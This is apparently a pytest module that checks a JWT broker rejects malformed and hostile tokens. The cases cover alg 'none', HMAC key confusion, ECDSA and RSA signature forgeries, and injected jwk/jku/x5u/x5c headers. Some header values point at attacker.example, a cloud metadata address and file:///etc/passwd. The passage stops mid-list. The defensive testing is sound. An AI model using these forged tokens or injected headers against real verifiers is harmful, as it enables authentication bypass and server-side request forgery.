"""Unit tests for broker.tokens: hostile JWTs refused (framing, JSON, algorithms, signatures,
keys, headers, claims), and good tokens passing.

Keys are generated at test time and tokens are signed here with `cryptography`, so each case
differs from a valid-signed token only in the defect it names. `outcome()` runs the pipeline the
broker runs (parse -> key lookup -> signature -> claims) and returns the rejection reason.
"""

from __future__ import annotations

import base64
import hashlib
import hmac
import json
import random
import socket
from collections.abc import Callable, Iterator, Mapping, Sequence
from dataclasses import dataclass, field
from datetime import UTC, datetime, timedelta
from typing import Any, cast

import pytest
from cryptography import x509
from cryptography.hazmat.primitives import hashes, serialization
from cryptography.hazmat.primitives.asymmetric import ec, padding, rsa
from cryptography.hazmat.primitives.asymmetric.ed25519 import Ed25519PrivateKey
from cryptography.hazmat.primitives.asymmetric.utils import (
    decode_dss_signature,
    encode_dss_signature,
)
from cryptography.x509.oid import NameOID

from broker.dev.claims import preset_claims
from broker.dev.issuer import SigningKey, encode_jwt
from broker.jwk import KeySet, VerificationKey, b64url_encode, parse_jwk, parse_jwks
from broker.tokens import (
    _EC_ORDER,
    MAX_TOKEN_LENGTH,
    TokenError,
    UnverifiedToken,
    parse_token,
    token_sha256,
    validate_claims,
    verify_signature,
)

NOW = datetime(2026, 11, 22, 2, 0, 0, tzinfo=UTC)
T = int(NOW.timestamp())
LEEWAY = 60
MAX_LIFETIME = 3600
ISSUER = "https://gitlab.example.com"
AUDIENCE = "https://broker.example.com"
SUB = "project_path:org/app:ref_type:branch:ref:main"
DROP = object()  # marks a claim or header member to delete

HASHES = {"256": hashes.SHA256, "384": hashes.SHA384, "512": hashes.SHA512}
P256_N = 0xFFFFFFFF00000000FFFFFFFFFFFFFFFFBCE6FAADA7179E84F3B9CAC2FC632551


def b64(data: bytes) -> str:
    return b64url_encode(data)


def unb64(text: str) -> bytes:
    return base64.urlsafe_b64decode(text + "=" * (-len(text) % 4))


def claims(**changes: Any) -> dict[str, Any]:
    """A GitLab-shaped claim set valid at NOW; `name=DROP` removes a claim."""
    base: dict[str, Any] = {
        "iss": ISSUER,
        "aud": AUDIENCE,
        "sub": SUB,
        "jti": "3f8e1c2a-jti-0001",
        "iat": T - 10,
        "nbf": T - 10,
        "exp": T + 290,
        "project_id": "55235664",
    }
    base.update(changes)
    return {k: v for k, v in base.items() if v is not DROP}


@dataclass
class Signer:
    """A private key that signs compact JWS the way an IdP would for `alg`."""

    alg: str
    private: Any = field(repr=False)
    kid: str

    def sign(self, message: bytes) -> bytes:
        family, bits = self.alg[:2], self.alg[2:]
        if family == "RS":
            return cast(bytes, self.private.sign(message, padding.PKCS1v15(), HASHES[bits]()))
        if family == "PS":
            digest = HASHES[bits]()
            pss = padding.PSS(mgf=padding.MGF1(digest), salt_length=digest.digest_size)
            return cast(bytes, self.private.sign(message, pss, digest))
        if family == "ES":
            der = self.private.sign(message, ec.ECDSA(HASHES[bits]()))
            r, s = decode_dss_signature(der)
            order = _EC_ORDER[self.private.curve.name]
            s = min(s, order - s)  # the canonical low-S form, as the broker requires
            size = (self.private.curve.key_size + 7) // 8
            return r.to_bytes(size, "big") + s.to_bytes(size, "big")
        return cast(bytes, self.private.sign(message))  # EdDSA

    def token(
        self,
        payload: Mapping[str, Any] | bytes | None = None,
        *,
        header: Mapping[str, Any] | bytes | None = None,
        **header_changes: Any,
    ) -> str:
        if header is None:
            header = {"alg": self.alg, "typ": "JWT", "kid": self.kid, **header_changes}
            header = {k: v for k, v in header.items() if v is not DROP}
        header_bytes = header if isinstance(header, bytes) else json.dumps(header).encode()
        if payload is None:
            payload = claims()
        payload_bytes = payload if isinstance(payload, bytes) else json.dumps(payload).encode()
        signing_input = f"{b64(header_bytes)}.{b64(payload_bytes)}"
        return f"{signing_input}.{b64(self.sign(signing_input.encode()))}"

    def as_(self, alg: str) -> Signer:
        return Signer(alg, self.private, self.kid)

    def public_jwk(self, **extra: Any) -> dict[str, Any]:
        public = self.private.public_key()
        if isinstance(public, rsa.RSAPublicKey):
            nums = public.public_numbers()
            jwk = {"kty": "RSA", "n": _b64_int(nums.n), "e": _b64_int(nums.e)}
        elif isinstance(public, ec.EllipticCurvePublicKey):
            size = (public.curve.key_size + 7) // 8
            crv = {"secp256r1": "P-256", "secp384r1": "P-384", "secp521r1": "P-521"}
            point = public.public_numbers()
            jwk = {
                "kty": "EC",
                "crv": crv[public.curve.name],
                "x": b64(point.x.to_bytes(size, "big")),
                "y": b64(point.y.to_bytes(size, "big")),
            }
        else:
            raw = public.public_bytes(serialization.Encoding.Raw, serialization.PublicFormat.Raw)
            jwk = {"kty": "OKP", "crv": "Ed25519", "x": b64(raw)}
        return {**jwk, "kid": self.kid, "use": "sig", **extra}


def _b64_int(value: int) -> str:
    return b64(value.to_bytes((value.bit_length() + 7) // 8, "big"))


@dataclass
class Kit:
    """The test issuer's signers and its published key set."""

    rs: Signer
    ps: Signer
    es: Signer
    es384: Signer
    es512: Signer
    ed: Signer
    attacker: Signer
    keyset: KeySet

    def key(self, kid: str) -> VerificationKey:
        return next(k for k in self.keyset.keys if k.kid == kid)


@pytest.fixture(scope="module")
def kit() -> Kit:
    rsa_key = rsa.generate_private_key(public_exponent=65537, key_size=2048)
    rs = Signer("RS256", rsa_key, "rsa-1")
    es = Signer("ES256", ec.generate_private_key(ec.SECP256R1()), "ec-256")
    es384 = Signer("ES384", ec.generate_private_key(ec.SECP384R1()), "ec-384")
    es512 = Signer("ES512", ec.generate_private_key(ec.SECP521R1()), "ec-521")
    ed = Signer("EdDSA", Ed25519PrivateKey.generate(), "ed-1")
    attacker = Signer("RS256", rsa.generate_private_key(65537, 2048), "rsa-1")
    keyset = parse_jwks({"keys": [s.public_jwk() for s in (rs, es, es384, es512, ed)]})
    return Kit(rs, rs.as_("PS256"), es, es384, es512, ed, attacker, keyset)


def outcome(
    raw: Any,
    kit: Kit,
    *,
    algorithms: Sequence[str] = ("RS256",),
    audiences: Sequence[str] = (AUDIENCE,),
    require_jti: bool = True,
) -> str:
    """Run the broker's verification pipeline; 'accepted', 'no_key' or the TokenError reason."""
    try:
        token = parse_token(raw)
        key = kit.keyset.find(token.kid, token.alg)
        if key is None:
            return "no_key"
        verify_signature(token, key, algorithms)
        validate_claims(
            token.claims,
            issuer=ISSUER,
            audiences=audiences,
            now=NOW,
            leeway=LEEWAY,
            max_lifetime=MAX_LIFETIME,
            require_jti=require_jti,
        )
    except TokenError as exc:
        return exc.reason
    return "accepted"


Case = tuple[str, Callable[[Kit], Any], str]


def cases(table: list[Case]) -> Any:
    return pytest.mark.parametrize(
        ("build", "reason"), [c[1:] for c in table], ids=[c[0] for c in table]
    )


def _parts(kit: Kit) -> list[str]:
    return kit.rs.token().split(".")


def _with_part(index: int, value: str) -> Callable[[Kit], str]:
    def build(kit: Kit) -> str:
        parts = _parts(kit)
        parts[index] = value
        return ".".join(parts)

    return build


def _insert(index: int, text: str) -> Callable[[Kit], str]:
    def build(kit: Kit) -> str:
        parts = _parts(kit)
        middle = len(parts[index]) // 2
        parts[index] = parts[index][:middle] + text + parts[index][middle:]
        return ".".join(parts)

    return build


# --- good tokens -----------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("signer_name", "alg"),
    [
        ("rs", "RS256"),
        ("rs", "RS384"),
        ("rs", "RS512"),
        ("rs", "PS256"),
        ("rs", "PS384"),
        ("rs", "PS512"),
        ("es", "ES256"),
        ("es384", "ES384"),
        ("es512", "ES512"),
        ("ed", "EdDSA"),
    ],
    ids=lambda v: str(v),
)
def test_valid_token_is_accepted(kit: Kit, signer_name: str, alg: str) -> None:
    """A correctly signed, current token passes parse, key lookup, signature and claims."""
    signer = cast(Signer, getattr(kit, signer_name)).as_(alg)
    assert outcome(signer.token(), kit, algorithms=(alg,)) == "accepted"


def test_parsed_token_exposes_header_claims_and_hash(kit: Kit) -> None:
    """parse_token returns header, claims, kid, alg and the sha256 of the raw token text."""
    raw = kit.rs.token()
    token = parse_token(raw)
    assert (token.alg, token.kid, token.header["typ"]) == ("RS256", "rsa-1", "JWT")
    assert token.claims["sub"] == SUB
    assert token.sha256 == token_sha256(raw) == hashlib.sha256(raw.encode()).hexdigest()
    assert token.signing_input == raw.rsplit(".", 1)[0].encode()


def test_header_json_whitespace_is_accepted(kit: Kit) -> None:
    """Insignificant whitespace in the header JSON is valid JSON and is accepted."""
    raw = kit.rs.token(header=b'{ "alg" : "RS256",\n\t"kid" : "rsa-1" }')
    assert outcome(raw, kit) == "accepted"


def test_token_at_length_cap_is_parsed(kit: Kit) -> None:
    """A token just under the maximum length is parsed; with the cap lowered below it, not."""
    pad = (MAX_TOKEN_LENGTH - len(kit.rs.token())) * 3 // 4
    raw = kit.rs.token(claims(pad="x" * pad))
    while len(raw) > MAX_TOKEN_LENGTH:
        pad -= 1
        raw = kit.rs.token(claims(pad="x" * pad))
    assert len(raw) > MAX_TOKEN_LENGTH - 8
    assert outcome(raw, kit) == "accepted"
    with pytest.raises(TokenError) as caught:
        parse_token(raw, max_length=len(raw) - 1)
    assert caught.value.reason == "too_large"


# --- A. framing and encoding -----------------------------------------------------------------

ILLEGAL = {
    "space": " ",
    "plus": "+",
    "slash": "/",
    "question": "?",
    "hash": "#",
    "newline": "\n",
    "pct2E": "%2E",
    "pad": "=",
    "nul": "\x00",
    "fullwidth-a": "ａ",
}
FRAMING: list[Case] = [
    ("empty-string", lambda k: "", "malformed"),
    ("none-value", lambda k: None, "malformed"),
    ("bytes-value", lambda k: k.rs.token().encode(), "malformed"),
    ("one-part", lambda k: _parts(k)[0], "malformed"),
    ("two-parts", lambda k: ".".join(_parts(k)[:2]), "malformed"),
    ("missing-signature", lambda k: ".".join(_parts(k)[:2]) + ".", "malformed"),
    ("four-parts", lambda k: k.rs.token() + ".e30", "malformed"),
    ("six-parts", lambda k: k.rs.token() + ".a.b.c", "malformed"),
    ("empty-header", _with_part(0, ""), "malformed"),
    ("empty-payload", _with_part(1, ""), "malformed"),
    ("trailing-dot", lambda k: k.rs.token() + ".", "malformed"),
    ("trailing-newline", lambda k: k.rs.token() + "\n", "malformed"),
    ("leading-space", lambda k: " " + k.rs.token(), "malformed"),
    (
        "json-flattened",
        lambda k: json.dumps(
            dict(zip(("protected", "payload", "signature"), _parts(k), strict=True))
        ),
        "malformed",
    ),
    (
        "json-general",
        lambda k: json.dumps(
            {
                "payload": _parts(k)[1],
                "signatures": [{"protected": _parts(k)[0], "signature": _parts(k)[2]}],
            }
        ),
        "malformed",
    ),
    (
        "json-general-no-signatures",
        lambda k: json.dumps({"payload": _parts(k)[1], "signatures": []}),
        "malformed",
    ),
    *[
        (f"{name}-in-{segment}", _insert(index, char), "malformed")
        for name, char in ILLEGAL.items()
        for index, segment in enumerate(("header", "payload", "signature"))
    ],
    ("padding-on-signature", lambda k: k.rs.token() + "==", "malformed"),
    ("too-long", lambda k: "a" * (MAX_TOKEN_LENGTH + 1), "too_large"),
    ("ten-megabytes", lambda k: "A" * 10_000_000 + ".e30.c2ln", "too_large"),
    ("header-segment-2000", _with_part(0, "e" * 2000), "too_large"),
    ("signature-segment-2000", _with_part(2, "A" * 2000), "too_large"),
    ("header-len-1-mod-4", _with_part(0, "eyJhbGciOiJSUzI1NiJ9A"), "bad_encoding"),
    ("payload-len-1-mod-4", _with_part(1, "AAAAA"), "bad_encoding"),
]


@cases(FRAMING)
def test_framing_defects_are_rejected(kit: Kit, build: Callable[[Kit], Any], reason: str) -> None:
    """Tokens that are not exactly three canonical base64url segments are rejected."""
    assert outcome(build(kit), kit) == reason


def _non_canonical(text: str) -> str:
    """Set the unused low bits of the final base64url character (Wycheproof tc374/375)."""
    alphabet = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789-_"
    assert len(text) % 4 in (2, 3), "needs a final character with unused bits"
    last = alphabet.index(text[-1])
    return text[:-1] + alphabet[last | 1]


def _resign(kit: Kit, header_b64: str, payload_b64: str) -> str:
    signing_input = f"{header_b64}.{payload_b64}"
    return f"{signing_input}.{b64(kit.rs.sign(signing_input.encode()))}"


def _payload_with_unused_bits(kit: Kit) -> str:
    for pad in range(3):
        header, payload, _ = kit.rs.token(claims(pad="x" * pad)).split(".")
        if len(payload) % 4 in (2, 3):
            return _resign(kit, header, _non_canonical(payload))
    raise AssertionError("unreachable")


def _header_with_unused_bits(kit: Kit) -> str:
    for pad in range(3):
        header, payload, _ = kit.rs.token(typ="JWT" + "x" * pad).split(".")
        if len(header) % 4 in (2, 3):
            return _resign(kit, _non_canonical(header), payload)
    raise AssertionError("unreachable")


def _signature_with_unused_bits(kit: Kit) -> str:
    header, payload, signature = kit.rs.token().split(".")
    return f"{header}.{payload}.{_non_canonical(signature)}"


def test_non_canonical_base64url_is_rejected_even_when_validly_signed(kit: Kit) -> None:
    """Segments whose last character has non-zero unused bits are refused."""
    for raw in (_payload_with_unused_bits(kit), _header_with_unused_bits(kit)):
        assert outcome(raw, kit) == "bad_encoding"
    assert outcome(_signature_with_unused_bits(kit), kit) == "bad_encoding"


CLAIMS_JSON = json.dumps(claims())
ENCODINGS: list[Case] = [
    ("payload-utf16-bom", lambda k: k.rs.token(CLAIMS_JSON.encode("utf-16")), "bad_encoding"),
    ("payload-utf16le-no-bom", lambda k: k.rs.token(CLAIMS_JSON.encode("utf-16-le")), "bad_json"),
    (
        "payload-utf8-bom",
        lambda k: k.rs.token(b"\xef\xbb\xbf" + CLAIMS_JSON.encode()),
        "bad_encoding",
    ),
    (
        "payload-latin1",
        lambda k: k.rs.token(
            json.dumps(claims(sub="caf\xe9"), ensure_ascii=False).encode("latin-1")
        ),
        "bad_encoding",
    ),
    (
        "payload-overlong-slash",
        lambda k: k.rs.token(
            CLAIMS_JSON.replace(":main", ":\x00").encode().replace(b"\x00", b"\xc0\xaf")
        ),
        "bad_encoding",
    ),
    (
        "payload-encoded-surrogate",
        lambda k: k.rs.token(
            CLAIMS_JSON.replace("main", "ma\x00").encode().replace(b"\x00", b"\xed\xa0\x80")
        ),
        "bad_encoding",
    ),
    (
        "payload-escaped-lone-surrogate",
        lambda k: k.rs.token(CLAIMS_JSON.replace("main", "ma\\ud800").encode()),
        "bad_encoding",
    ),
    (
        "header-utf16",
        lambda k: k.rs.token(header=json.dumps({"alg": "RS256"}).encode("utf-16")),
        "bad_encoding",
    ),
    *[
        (f"header-{name}", (lambda v: lambda k: k.rs.token(header=v))(value), "malformed")
        for name, value in (
            ("array", b"[]"),
            ("string", b'"x"'),
            ("number", b"1"),
            ("null", b"null"),
        )
    ],
    *[
        (f"payload-{name}", (lambda v: lambda k: k.rs.token(v))(value), "malformed")
        for name, value in (
            ("array", b"[]"),
            ("string", b'"x"'),
            ("number", b"1"),
            ("null", b"null"),
        )
    ],
    ("payload-not-json", lambda k: k.rs.token(b"foo"), "bad_json"),
    ("payload-trailing-garbage", lambda k: k.rs.token(CLAIMS_JSON.encode() + b"x"), "bad_json"),
    (
        "duplicate-sub",
        lambda k: k.rs.token(CLAIMS_JSON[:-1].encode() + b', "sub": "admin"}'),
        "duplicate_member",
    ),
    (
        "duplicate-aud",
        lambda k: k.rs.token(CLAIMS_JSON[:-1].encode() + b', "aud": "other"}'),
        "duplicate_member",
    ),
    (
        "duplicate-iss",
        lambda k: k.rs.token(CLAIMS_JSON[:-1].encode() + b', "iss": "evil"}'),
        "duplicate_member",
    ),
    (
        "duplicate-escaped",
        lambda k: k.rs.token(CLAIMS_JSON[:-1].encode() + b', "\\u0073ub": "admin"}'),
        "duplicate_member",
    ),
    (
        "duplicate-alg",
        lambda k: k.rs.token(header=b'{"alg":"none","alg":"RS256","kid":"rsa-1"}'),
        "duplicate_member",
    ),
    (
        "depth-100",
        lambda k: k.rs.token(
            CLAIMS_JSON[:-1].encode() + b', "x": ' + b"[" * 100 + b"]" * 100 + b"}"
        ),
        "bad_json",
    ),
    ("depth-10000", lambda k: k.rs.token(b"[" * 10_000 + b"]" * 10_000), "too_large"),
    ("string-1mb", lambda k: k.rs.token(claims(x="a" * 1_000_000)), "too_large"),
    (
        "exp-1e400",
        lambda k: k.rs.token(CLAIMS_JSON.replace(f'"exp": {T + 290}', '"exp": 1e400').encode()),
        "bad_json",
    ),
    (
        "exp-nan",
        lambda k: k.rs.token(CLAIMS_JSON.replace(f'"exp": {T + 290}', '"exp": NaN').encode()),
        "bad_json",
    ),
    (
        "exp-infinity",
        lambda k: k.rs.token(CLAIMS_JSON.replace(f'"exp": {T + 290}', '"exp": Infinity').encode()),
        "bad_json",
    ),
    (
        "int-5000-digits",
        lambda k: k.rs.token(CLAIMS_JSON[:-1].encode() + b', "x": ' + b"9" * 5000 + b"}"),
        "bad_json",
    ),
    (
        "exp-minus-zero",
        lambda k: k.rs.token(CLAIMS_JSON.replace(f'"exp": {T + 290}', '"exp": -0').encode()),
        "expired",
    ),
    ("exp-2-pow-70", lambda k: k.rs.token(claims(exp=2**70)), "bad_claim_type"),
]


@cases(ENCODINGS)
def test_encoding_and_json_defects_are_rejected(
    kit: Kit, build: Callable[[Kit], Any], reason: str
) -> None:
    """Signed tokens with non-UTF-8, non-object, duplicate or pathological JSON fail."""
    assert outcome(build(kit), kit) == reason


# --- B. algorithm handling -------------------------------------------------------------------

NONE_VARIANTS = ["none", "None", "NONE", "nOnE", "none ", " none", "\tnone"]


@pytest.mark.parametrize("alg", NONE_VARIANTS, ids=repr)
def test_alg_none_is_rejected(kit: Kit, alg: str) -> None:
    """alg "none" in any case or padding is refused, with or without a signature."""
    header, payload, _ = kit.rs.token(alg=alg).split(".")
    assert outcome(f"{header}.{payload}.", kit) == "malformed"
    assert outcome(f"{header}.{payload}.c2ln", kit) == "alg_none"
    assert outcome(f"{header}.{payload}.c2ln", kit, algorithms=(alg, "RS256")) == "alg_none"


def _public_encodings(public: Any, jwk: Mapping[str, Any]) -> dict[str, bytes]:
    pem = serialization.Encoding.PEM
    spki = serialization.PublicFormat.SubjectPublicKeyInfo
    encodings = {
        "pem-spki": public.public_bytes(pem, spki),
        "pem-spki-no-newline": public.public_bytes(pem, spki).rstrip(b"\n"),
        "der-spki": public.public_bytes(serialization.Encoding.DER, spki),
        "openssh": public.public_bytes(
            serialization.Encoding.OpenSSH, serialization.PublicFormat.OpenSSH
        ),
        "jwk-json": json.dumps(jwk).encode(),
    }
    if isinstance(public, rsa.RSAPublicKey):
        encodings["pem-pkcs1"] = public.public_bytes(pem, serialization.PublicFormat.PKCS1)
        n = public.public_numbers().n
        encodings["n-bytes"] = n.to_bytes((n.bit_length() + 7) // 8, "big")
    else:
        encodings["x962-point"] = public.public_bytes(
            serialization.Encoding.X962, serialization.PublicFormat.UncompressedPoint
        )
    return encodings


@pytest.mark.parametrize("signer_name", ["rs", "es"])
def test_hmac_key_confusion_is_rejected(kit: Kit, signer_name: str) -> None:
    """HS256 tokens MACed with the issuer's public key in any encoding never verify."""
    signer = cast(Signer, getattr(kit, signer_name))
    public = signer.private.public_key()
    key = kit.key(signer.kid)
    for name, secret in _public_encodings(public, signer.public_jwk()).items():
        header = b64(json.dumps({"alg": "HS256", "typ": "JWT", "kid": signer.kid}).encode())
        signing_input = f"{header}.{b64(json.dumps(claims()).encode())}"
        mac = hmac.new(secret, signing_input.encode(), hashlib.sha256).digest()
        raw = f"{signing_input}.{b64(mac)}"
        assert outcome(raw, kit, algorithms=(signer.alg,)) == "no_key", name
        token = parse_token(raw)
        for allowlist in ((signer.alg,), ("HS256", signer.alg)):
            with pytest.raises(TokenError) as caught:
                verify_signature(token, key, allowlist)
            assert caught.value.reason == "alg_not_allowed", name


@pytest.mark.parametrize(
    ("signer_name", "alg"),
    [
        ("es", "ES256"),
        ("es384", "ES384"),
        ("es512", "ES512"),
        ("rs", "PS256"),
        ("rs", "PS512"),
        ("rs", "RS384"),
        ("ed", "EdDSA"),
    ],
    ids=lambda v: str(v),
)
def test_alg_outside_issuer_allowlist_is_rejected(kit: Kit, signer_name: str, alg: str) -> None:
    """A validly signed token whose alg the issuer does not allow is refused."""
    signer = cast(Signer, getattr(kit, signer_name)).as_(alg)
    assert outcome(signer.token(), kit, algorithms=("RS256",)) == "alg_not_allowed"


def test_alg_that_disagrees_with_the_key_is_rejected(kit: Kit) -> None:
    """Header alg must fit the key's kty, crv and JWK alg (Wycheproof cases 331-340)."""
    pinned = parse_jwk(kit.rs.public_jwk(alg="PS256"))
    ps384 = parse_token(kit.rs.as_("PS384").token())
    mismatches: list[tuple[UnverifiedToken, VerificationKey, str]] = [
        (ps384, pinned, "PS384"),
        (parse_token(kit.es.token(kid="rsa-1")), kit.key("rsa-1"), "ES256"),
        (parse_token(kit.es384.token(kid="ec-256")), kit.key("ec-256"), "ES384"),
        (parse_token(kit.es.token(kid="ec-384")), kit.key("ec-384"), "ES256"),
        (parse_token(kit.ed.token(kid="ec-256")), kit.key("ec-256"), "EdDSA"),
        (parse_token(kit.rs.token(kid="ed-1")), kit.key("ed-1"), "RS256"),
    ]
    for token, key, alg in mismatches:
        assert KeySet(keys=(key,)).find(token.kid, token.alg) is None
        with pytest.raises(TokenError) as caught:
            verify_signature(token, key, (alg,))
        assert caught.value.reason == "key_alg_mismatch", alg


@pytest.mark.parametrize(
    "alg",
    [["RS256"], None, 256, "", {"RS256": True}, True, DROP],
    ids=["list", "null", "number", "empty", "object", "bool", "missing"],
)
def test_alg_of_wrong_type_is_rejected(kit: Kit, alg: Any) -> None:
    """A header alg that is not a non-empty string is refused."""
    assert outcome(kit.rs.token(alg=alg), kit) == "bad_header"


def _es256_with(kit: Kit, signature: bytes) -> str:
    header, payload, _ = kit.es.token().split(".")
    return f"{header}.{payload}.{b64(signature)}"


SPECIAL_SCALARS = {"0": 0, "1": 1, "n-1": P256_N - 1, "n": P256_N}


@pytest.mark.parametrize("r_name", list(SPECIAL_SCALARS))
@pytest.mark.parametrize("s_name", list(SPECIAL_SCALARS))
def test_ecdsa_special_scalars_are_rejected(kit: Kit, r_name: str, s_name: str) -> None:
    """ES256 signatures with r, s in {0, 1, n-1, n} never verify (CVE-2022-21449)."""
    r, s = SPECIAL_SCALARS[r_name], SPECIAL_SCALARS[s_name]
    raw = _es256_with(kit, r.to_bytes(32, "big") + s.to_bytes(32, "big"))
    assert outcome(raw, kit, algorithms=("ES256",)) == "bad_signature"


def _es256_signature(kit: Kit) -> tuple[str, bytes]:
    header, payload, signature = kit.es.token().split(".")
    return f"{header}.{payload}", unb64(signature)


def _der(signature: bytes) -> bytes:
    return encode_dss_signature(
        int.from_bytes(signature[:32], "big"), int.from_bytes(signature[32:], "big")
    )


ECDSA_FORMS: dict[str, Callable[[bytes], bytes]] = {
    "all-zero-64": lambda sig: bytes(64),
    "der-encoded": _der,
    "appended-zero-65": lambda sig: sig + b"\x00",
    "prepended-zero-65": lambda sig: b"\x00" + sig,
    "truncated-63": lambda sig: sig[:-1],
    "coordinates-padded-66": lambda sig: b"\x00" + sig[:32] + b"\x00" + sig[32:],
    "r-and-s-swapped": lambda sig: sig[32:] + sig[:32],
    "s-plus-n": lambda sig: (
        sig[:32] + (int.from_bytes(sig[32:], "big") + P256_N).to_bytes(33, "big")
    ),
}


@pytest.mark.parametrize("form", list(ECDSA_FORMS))
def test_malformed_ecdsa_signature_is_rejected(kit: Kit, form: str) -> None:
    """Only the raw 64-byte r||s form of a correct ES256 signature verifies."""
    signing_input, signature = _es256_signature(kit)
    raw = f"{signing_input}.{b64(ECDSA_FORMS[form](signature))}"
    assert outcome(raw, kit, algorithms=("ES256",)) == "bad_signature"


@pytest.mark.parametrize("signer_name", ["es", "es384", "es512"])
def test_ecdsa_signature_twins_both_verify_and_share_the_replay_key(
    kit: Kit, signer_name: str
) -> None:
    """(r, s) and (r, n - s) both verify (JWS does not require low S and stock signers emit
    either), and both give the same `signed_sha256`, the key the replay ledger spends for
    tokens without jti; the raw-token hash differs."""
    signer = cast(Signer, getattr(kit, signer_name))
    header, payload, signature = signer.token().split(".")
    raw_sig = unb64(signature)
    size = len(raw_sig) // 2
    order = _EC_ORDER[signer.private.curve.name]
    s = int.from_bytes(raw_sig[size:], "big")
    assert 0 < s < order
    twin = raw_sig[:size] + (order - s).to_bytes(size, "big")
    algorithms = (signer.alg,)
    original, other = f"{header}.{payload}.{signature}", f"{header}.{payload}.{b64(twin)}"
    assert outcome(original, kit, algorithms=algorithms) == "accepted"
    assert outcome(other, kit, algorithms=algorithms) == "accepted"
    assert parse_token(original).signed_sha256 == parse_token(other).signed_sha256
    assert parse_token(original).sha256 != parse_token(other).sha256


def test_signed_sha256_is_the_same_for_a_token_and_its_signature_twin(kit: Kit) -> None:
    """The replay key covers the signing input, so re-encoding the signature does not change it,
    while the raw-token hash (what the audit records) does."""
    header, payload, signature = kit.es.token().split(".")
    raw_sig = unb64(signature)
    twin = raw_sig[:32] + (P256_N - int.from_bytes(raw_sig[32:], "big")).to_bytes(32, "big")
    first = parse_token(f"{header}.{payload}.{signature}")
    second = parse_token(f"{header}.{payload}.{b64(twin)}")
    assert first.signed_sha256 == second.signed_sha256
    assert first.sha256 != second.sha256


def _rsa_variants(kit: Kit) -> dict[str, str]:
    header, payload, signature = kit.rs.token().split(".")
    sig = unb64(signature)
    n = kit.rs.private.public_key().public_numbers().n
    ps_header, ps_payload, ps_sig = kit.ps.token().split(".")
    signing_input = f"{ps_header}.{ps_payload}".encode()
    digest = hashes.SHA256()

    def pss(salt: int) -> str:
        mgf = padding.PSS(mgf=padding.MGF1(digest), salt_length=salt)
        return b64(kit.rs.private.sign(signing_input, mgf, digest))

    zero = b"\x00"
    above_n = (int.from_bytes(sig, "big") + n).to_bytes(257, "big")
    return {
        "prepended-zero": f"{header}.{payload}.{b64(zero + sig)}",
        "appended-zero": f"{header}.{payload}.{b64(sig + zero)}",
        "truncated": f"{header}.{payload}.{b64(sig[:-1])}",
        "signature-is-n": f"{header}.{payload}.{b64(n.to_bytes(256, 'big'))}",
        "signature-plus-n": f"{header}.{payload}.{b64(above_n)}",
        "signature-zero": f"{header}.{payload}.{b64(bytes(256))}",
        "signature-one": f"{header}.{payload}.{b64((1).to_bytes(256, 'big'))}",
        "pss-salt-0": f"{ps_header}.{ps_payload}.{pss(0)}",
        "pss-salt-20": f"{ps_header}.{ps_payload}.{pss(20)}",
        "pss-salt-max": f"{ps_header}.{ps_payload}.{pss(padding.PSS.MAX_LENGTH)}",
        "pkcs1-under-ps256": f"{ps_header}.{ps_payload}.{b64(kit.rs.sign(signing_input))}",
        "pss-under-rs256": f"{header}.{payload}.{ps_sig}",
    }


@pytest.mark.parametrize(
    "variant",
    [
        "prepended-zero",
        "appended-zero",
        "truncated",
        "signature-is-n",
        "signature-plus-n",
        "signature-zero",
        "signature-one",
        "pss-salt-0",
        "pss-salt-20",
        "pss-salt-max",
        "pkcs1-under-ps256",
        "pss-under-rs256",
    ],
)
def test_rsa_signature_malleability_is_rejected(kit: Kit, variant: str) -> None:
    """RSA signatures of the wrong length, range, padding or PSS salt length fail."""
    raw = _rsa_variants(kit)[variant]
    assert outcome(raw, kit, algorithms=("RS256", "PS256")) == "bad_signature"


@pytest.mark.parametrize("byte_index", [0, 1, 127, 254, 255])
@pytest.mark.parametrize("bit", [0, 7])
def test_signature_bit_flip_is_rejected(kit: Kit, byte_index: int, bit: int) -> None:
    """Flipping any single bit of an RS256 signature makes it invalid."""
    header, payload, signature = kit.rs.token().split(".")
    sig = bytearray(unb64(signature))
    sig[byte_index] ^= 1 << bit
    assert outcome(f"{header}.{payload}.{b64(bytes(sig))}", kit) == "bad_signature"


@pytest.mark.parametrize("signer_name", ["rs", "ps", "es", "ed"])
def test_header_and_payload_changes_break_the_signature(kit: Kit, signer_name: str) -> None:
    """A changed header or payload under the original signature is rejected."""
    signer = cast(Signer, getattr(kit, signer_name))
    header, payload, signature = signer.token().split(".")
    other_payload = b64(json.dumps(claims(sub=SUB.replace("main", "mainX"))).encode())
    other_header = b64(json.dumps({"alg": signer.alg, "typ": "JWS", "kid": signer.kid}).encode())
    for raw in (f"{header}.{other_payload}.{signature}", f"{other_header}.{payload}.{signature}"):
        assert outcome(raw, kit, algorithms=(signer.alg,)) == "bad_signature"


# --- C. key selection and header members -----------------------------------------------------


@pytest.fixture
def no_network(monkeypatch: pytest.MonkeyPatch) -> Iterator[list[Any]]:
    """Record (and refuse) every outbound connection attempt made during the test."""
    attempts: list[Any] = []

    def refuse(*args: Any, **kwargs: Any) -> Any:
        attempts.append(args)
        raise AssertionError("network access attempted")

    monkeypatch.setattr(socket.socket, "connect", refuse)
    monkeypatch.setattr(socket, "create_connection", refuse)
    monkeypatch.setattr(socket, "getaddrinfo", refuse)
    yield attempts
    assert attempts == []


def _self_signed_x5c(signer: Signer) -> list[str]:
    name = x509.Name([x509.NameAttribute(NameOID.COMMON_NAME, "attacker")])
    cert = (
        x509.CertificateBuilder()
        .subject_name(name)
        .issuer_name(name)
        .public_key(signer.private.public_key())
        .serial_number(1)
        .not_valid_before(NOW - timedelta(days=1))
        .not_valid_after(NOW + timedelta(days=1))
        .sign(signer.private, hashes.SHA256())
    )
    return [base64.b64encode(cert.public_bytes(serialization.Encoding.DER)).decode()]


KEY_HEADERS: list[Case] = [
    ("embedded-jwk", lambda k: k.attacker.token(jwk=k.attacker.public_jwk()), "forbidden_header"),
    (
        "jku-attacker",
        lambda k: k.attacker.token(jku="https://attacker.example/jwks.json"),
        "forbidden_header",
    ),
    (
        "jku-metadata",
        lambda k: k.attacker.token(jku="http://169.254.169.254/latest/meta-data/"),
        "forbidden_header",
    ),
    ("jku-file", lambda k: k.attacker.token(jku="file:///etc/passwd"), "forbidden_header"),
    (
        "x5u",
        lambda k: k.attacker.token(x5u="https://attacker.example/cert.pem"),
        "forbidden_header",
    ),
    (
        "x5c-self-signed",
        lambda k: k.attacker.token(x5c=_self_signed_x5c(k.attacker)),
        "forbidden_header",
